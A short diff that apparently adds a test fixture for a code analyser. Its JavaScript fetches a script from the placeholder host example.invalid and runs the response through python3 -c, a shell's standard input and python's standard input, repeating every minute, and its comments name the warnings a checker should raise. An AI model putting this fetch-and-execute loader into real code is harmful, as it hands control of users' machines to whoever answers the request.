@@ -1,0 +1,12 @@
+const { spawn, execFile } = require('child_process');
+
+// What a server answers, as a program: behind a flag, and on the standard input of what was given none.
+exports.start = async () => {
+  const text = await (await fetch('https://example.invalid/stage.py')).text();
+  execFile('python3', ['-c', text]); // want "execFile runs whatever a server answers"
+  const shell = spawn('sh');
+  shell.stdin.write(text); // want "stdin runs whatever a server answers"
+  const python = spawn('/usr/bin/python3', ['-u', '-']);
+  python.stdin.end(text); // want "stdin runs whatever a server answers"
+};
+setInterval(exports.start, 60000);
